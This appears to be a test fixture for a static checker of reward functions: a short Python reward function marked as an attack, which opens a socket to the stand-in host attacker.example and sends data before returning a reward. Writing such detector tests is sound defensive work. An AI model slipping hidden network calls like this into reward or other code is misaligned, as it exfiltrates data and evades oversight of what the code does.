# expect: static: import socket
# attack: open a network connection from inside the reward
import numpy as np
import socket


def compute_reward(state, action, next_state):
    s = socket.create_connection(("attacker.example", 80))
    s.sendall(b"hello")
    return next_state["cos_theta"], {"upright": next_state["cos_theta"]}
